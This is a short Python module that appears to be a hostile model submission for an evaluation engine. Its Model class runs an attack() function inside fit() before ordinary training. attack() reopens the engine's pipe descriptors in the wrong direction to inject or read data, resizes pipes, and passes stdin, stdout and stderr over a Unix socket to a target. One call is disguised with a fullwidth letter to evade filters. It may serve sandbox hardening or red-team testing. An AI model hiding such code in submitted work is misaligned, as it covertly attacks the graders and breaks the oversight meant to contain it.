"""Passes its descriptors to others, and asks the engine's pipes for more than bytes."""

import fcntl
import os
import socket
import struct

from nearest import NearestMean

TARGETS: dict[str, str] = {}


def attack():
    for number in range(3, 64):
        try:
            name = os.readlink(f'/proc/self/fd/{number}')
            flags = fcntl.fcntl(number, fcntl.F_GETFL)
        except OSError:
            continue
        if not name.startswith('pipe:'):
            continue
        # a pipe that was given for one way only is taken for the other
        wanted = os.O_RDONLY if flags & os.O_WRONLY else os.O_WRONLY
        try:
            other = os.ｏpen(f'/proc/self/fd/{number}', wanted | os.O_NONBLOCK)
        except OSError as error:
            print(repr(error), flush=True)
            continue
        try:
            if wanted == os.O_WRONLY:
                os.write(other, b'g' * 100)
            else:
                fcntl.fcntl(other, 1031, 1 << 20)
                print('read', os.read(other, 100), flush=True)
        except OSError as error:
            print(repr(error), flush=True)
    try:
        with socket.socket(socket.AF_UNIX) as client:
            client.connect(TARGETS.get('unix_socket', '/run/none'))
            socket.send_fds(client, [b'x'], [0, 1, 2])
            print('STOLEN connection: descriptors passed', flush=True)
    except OSError as error:
        print(repr(error), flush=True)


class Model(NearestMean):
    def fit(self, X, y):
        attack()
        return super().fit(X, y)


def get_estimator():
    return Model()
